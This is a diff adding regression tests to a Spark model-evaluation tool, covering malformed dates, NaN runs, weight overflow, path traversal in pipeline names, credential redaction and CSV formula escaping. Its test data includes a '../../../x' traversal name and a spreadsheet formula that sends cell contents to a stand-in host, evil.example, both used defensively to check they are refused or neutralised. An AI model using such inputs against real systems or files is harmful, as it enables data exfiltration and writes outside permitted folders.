@@ -321,7 +321,7 @@ def test_null_model_or_run_is_an_invalid_row_in_both_modes(spark, demo_config, t
     df["model"] = np.where(df.index == 3, None, df["model"])
     df["run"] = np.where(df.index == 5, None, df["run"].astype(str))
     _write(df, tmp_path / "eval")
-    with pytest.raises(InputError, match=r"2 rows: null in the model or run column"):
+    with pytest.raises(InputError, match=r"2 rows: null \(or NaN\) in the model or run column"):
         evaluate(spark, demo_config(), DS, write=False)
     result = evaluate(spark, demo_config(on_invalid="drop"), DS, write=False)
     m = result.metrics
@@ -1140,3 +1140,159 @@ def test_a_date_column_in_nanoseconds_reads_with_nanos_as_long_and_epoch_ns(spar
     assert guess_ds_formats(["1795219200000000", "1795305599999999"]) == ["epoch_us"]
     assert input_day("epoch_ns", "1970-01-02") == "86400000000000"
     assert input_day("epoch_us", "1970-01-02") == "86400000000"
+
+
+# ---- the second battery (issue 55) ---------------------------------------------------------------------------
+
+def _written(out: Path) -> list[str]:
+    """What a run left under its output folder, lease and commit records aside."""
+    return sorted(str(p.relative_to(out)) for p in out.rglob("*") if p.is_file() and "_commits" not in p.parts
+                  and not p.name.startswith(".")) if out.exists() else []
+
+
+def test_dates_that_are_no_yyyy_mm_dd_day_are_rows_of_no_day(spark, demo_config, tmp_path, caplog):
+    """'', ' 2026-11-21', '21.11.2026' and '2026-11-32' among ISO days were in no day and no count: exit 0,
+    n_invalid 0, no word. They are rows without a date now, counted and reported as a null date is; a time after
+    the day still reads as that day."""
+    from ctcalc_spark.jobs.evaluate import NO_DATE
+
+    df = _rows()
+    df["ds"] = df["ds"].astype(object)
+    for i, text in enumerate(["", f" {DS}", "21.11.2026", "2026-11-32", "2026-11", "x"]):
+        df.loc[i, "ds"] = text
+    df.loc[10, "ds"], df.loc[11, "ds"] = f"{DS}T23:30:00-08:00", f"{DS} 13:45"
+    (tmp_path / "eval").mkdir()
+    df.to_parquet(tmp_path / "eval" / "rows.parquet", index=False)
+    with caplog.at_level("WARNING", logger="ctcalc_spark"):
+        result = evaluate(spark, demo_config(), DS, write=False)
+    assert result.metrics.loc[0, "n_rows"] == N - 6
+    assert result.uncounted.to_dict("records") == [{"ds": None, "reason": NO_DATE, "n_rows": 6}]
+    assert "6 evaluation rows (ds=none) are in no metrics row: null date, or a date not written YYYY-MM-DD" \
+        in caplog.text
+    # a range job (its summaries written from Spark's aggregate, the rows left out observed on the way)
+    df.loc[20:, "ds"] = np.where(df.index[20:] % 2 == 0, DS, "2026-11-20")
+    df.to_parquet(tmp_path / "eval" / "rows.parquet", index=False)
+    ranged = evaluate(spark, demo_config(), f"2026-11-20..{DS}")
+    assert ranged.days == ["2026-11-20", DS] and int(ranged.metrics["n_rows"].sum()) == N - 6
+    assert ranged.uncounted.to_dict("records") == [{"ds": None, "reason": NO_DATE, "n_rows": 6}]
+
+
+def test_a_nan_run_or_model_is_an_invalid_row_as_a_null_is(spark, demo_config, tmp_path):
+    """A NaN in a float run column was a run of its own ('NaN', 3 rows, counted by compare)."""
+    df = _binary_rows(n=N, models=("a",), runs=(0, 1))
+    df["run"] = df["run"].astype(float)
+    df.loc[:2, "run"] = np.nan
+    _write(df, tmp_path / "eval")
+    with pytest.raises(InputError, match=r"3 rows: null \(or NaN\) in the model or run column"):
+        evaluate(spark, demo_config(), DS)
+    assert not (tmp_path / "out").exists()
+    result = evaluate(spark, demo_config(on_invalid="drop"), DS, write=False)
+    assert result.metrics[["run", "n_rows"]].to_dict("records") == [{"run": "0.0", "n_rows": N - 3},
+                                                                      {"run": "1.0", "n_rows": N}]
+    assert result.uncounted.to_dict("records") == [{"ds": DS, "reason": INVALID_REASONS[9], "n_rows": 3}]
+
+
+def test_a_slice_value_written_like_the_null_slice_stays_a_slice_of_its_own(spark, demo_config, tmp_path):
+    """A slice value that is the text '__null__' merged with the null values into one slice. It gets a backslash
+    in front ('\\__null__'), and a value that is already so one more: no two values share a slice."""
+    df = _rows()
+    df["country"] = np.array([None, NULL_SLICE, "\\" + NULL_SLICE, "DE"], dtype=object)[df.index % 4]
+    _write(df, tmp_path / "eval")
+    m = evaluate(spark, demo_config(columns={"slices": ["country"]}), DS, write=False).metrics
+    assert m.set_index("slice_value")["n_rows"].to_dict() == {
+        "__all__": N, "DE": N // 4, NULL_SLICE: N // 4, "\\" + NULL_SLICE: N // 4, "\\\\" + NULL_SLICE: N // 4}
+
+
+@pytest.mark.parametrize(("weights", "message"), [
+    # two weights of 1e308 in different summary groups: pandas' compensated group sum gave NaN, the check passed
+    # it and the run ended in "AssertionError ... a bug" (exit 70)
+    ({0: 1e308, 1: 1e308}, r"too large to sum: .* total weight inf, at most 1e\+150 is allowed"),
+    # weights of 1e-300 or subnormal ones: the AUC's product of two weight sums was 0/0, an AssertionError too
+    ({"all": 1e-300}, r"too small to multiply: e.g. ds='2026-11-21', model='a', run='0' has a total weight of 4e-298"),
+    ({"all": 5e-324}, r"too small to multiply: .* total weight of 1\.98e-321, and at least 1e-150 is needed"),
+])
+def test_weights_too_large_or_too_small_for_their_sums_are_one_clear_error(spark, demo_config, tmp_path, weights,
+                                                                          message):
+    df = _rows().assign(weight=1.0)
+    for row, w in weights.items():
+        if row == "all":
+            df["weight"] = w
+        else:
+            df.loc[row, ["weight", "label", "logit"]] = [w, 1, -3.0 + 6.0 * row]  # far apart: two summary groups
+    _write(df, tmp_path / "eval")
+    with pytest.raises(InputError, match=message + r".* rescale the weights \(e\.g\. divide by their maximum\)"):
+        evaluate(spark, demo_config(columns={"weight": "weight"}), DS)
+    assert _written(tmp_path / "out") == []
+
+
+@pytest.mark.parametrize("name", ["../../../x", "a/b", "-x", ".hidden", "..", "x" * 81])
+def test_compare_pipelines_names_that_would_leave_the_workdir_are_refused(tmp_path, name):
+    """Airflow's compare_pipelines checked its path params against CTCALC_COMPARE_ROOT, and took the pipeline
+    names as they were: '../../../x' wrote the model files outside the root."""
+    from ctcalc_spark.orchestration.tasks import compare_plan
+
+    params = {"pipeline_a": "deepfm_bn.v2", "spec_a": {}, "pipeline_b": "b", "spec_b": {}, "runs": 1,
+              "ds": DS, "config": str(tmp_path / "c.yaml"), "train_path": str(tmp_path / "t.parquet"),
+              "features_path": str(tmp_path / "f.parquet"), "workdir": str(tmp_path / "work")}
+    plan = compare_plan(params, str(tmp_path), allowed_root=str(tmp_path))
+    assert [Path(j["model_path"]).parent.parent for j in plan["train_jobs"]] == [tmp_path / "work" / "models"] * 2
+    with pytest.raises(ConfigError, match=r"^The param pipeline_b names the folders of its models and report under "
+                                          r"workdir, so it must be letters, digits, '_', '-' and '\.' \(not first\), "
+                                          r"at most 80 of them; got .*\. Give the pipeline a plain name, e\.g\. '"):
+        compare_plan({**params, "pipeline_b": name}, str(tmp_path), allowed_root=str(tmp_path))
+
+
+def test_passwords_in_jdbc_urls_without_a_scheme_slash_slash_are_hidden():
+    """A metastore's JDBC URL in spark.conf went verbatim into the drift report's JSON (redact knew scheme:// URLs
+    only)."""
+    from ctcalc_spark.config import config_to_dict
+    from ctcalc_spark.redact import redact, url_secrets
+
+    derby = "jdbc:derby:;databaseName=metastore_db;create=true;user=APP;password=hunter2"
+    oracle = "jdbc:oracle:thin:scott/tiger7@//db.example:1521/hive"
+    cfg = config_from_dict({"input": {"path": "s3a://AKIAX:s3cr3t@bucket/eval"},
+                            "spark": {"conf": {"spark.hadoop.javax.jdo.option.ConnectionURL": derby,
+                                               "spark.hadoop.hive.metastore.url": oracle}}})
+    shown = repr(redact(config_to_dict(cfg)))
+    for secret in ("hunter2", "tiger7", "s3cr3t", "AKIAX"):
+        assert secret not in shown
+    assert "jdbc:derby:;databaseName=metastore_db;create=true;user=APP;password=***" in shown
+    assert "jdbc:oracle:thin:***@//db.example:1521/hive" in shown and "s3a://***@bucket/eval" in shown
+    assert url_secrets(oracle) == ["scott/tiger7"] and url_secrets(derby) == ["hunter2"]
+
+
+def test_a_path_with_credentials_is_never_echoed_on_stdout_or_stderr(spark, tmp_path, capsys, restore_ctcalc_logger):
+    """An s3a://KEY:SECRET@bucket input path was echoed on stderr by the missing-file-system message. Every line
+    a command writes now goes through the redaction (its own messages, log lines, results)."""
+    from ctcalc_spark.cli.main import main
+
+    config = tmp_path / "c.yaml"
+    config.write_text(f"output: {{path: {tmp_path / 'out'}}}\nsplit: {{salt: t}}\n")
+    code = main(["evaluate", "--config", str(config), "--ds", DS, "--set", "input.path=s3a://AKIAX:s3cr3t@bucket/eval"])
+    out, err = capsys.readouterr()
+    assert code == 3 and "s3cr3t" not in out + err and "AKIAX" not in out + err
+    assert "so it cannot open 's3a://***@bucket/eval'" in err
+    assert not (tmp_path / "out").exists()
+
+
+def test_report_csv_cells_that_start_like_a_formula_are_text(tmp_path):
+    """Model names beginning with '=', '+', '-' or '@' went into the CSV reports as they were: a spreadsheet
+    opening the file ran them as formulas."""
+    import csv
+
+    from ctcalc_spark.reports.drift import ReportInput, build_report, write_report_files
+    from tests._drift_data import binary_drift_summaries, day_range
+
+    evil = {"ctr_a": '=HYPERLINK("http://evil.example/?"&A1,"open")', "ctr_b": "@SUM(1+1)"}
+    days = day_range("2026-01-05", 21)
+    rows = binary_drift_summaries(days, jumps={}, n=200)
+    rows["model"] = rows["model"].map(lambda m: evil.get(m, m))
+    cfg = config_from_dict({"input": {"path": "unused"}, "output": {"path": "unused"},
+                            "histogram": {"bin_width": 0.1}, "rolling": {"window": "week"}})
+    report = build_report(ReportInput(rows, pd.DataFrame(), days[0], days[-1], "synthetic"), cfg, days[7], days[-1])
+    write_report_files(report, cfg, tmp_path)
+    (table,) = tmp_path.glob("drift_*_week.csv")
+    cells = [cell for row in csv.reader(table.open()) for cell in row]
+    models = {c for c in cells if "HYPERLINK" in c or "SUM(" in c}
+    assert models == {"'" + v for v in evil.values()}
+    assert not [c for c in cells if c[:1] in ("=", "@", "+")]  # negative numbers stay numbers
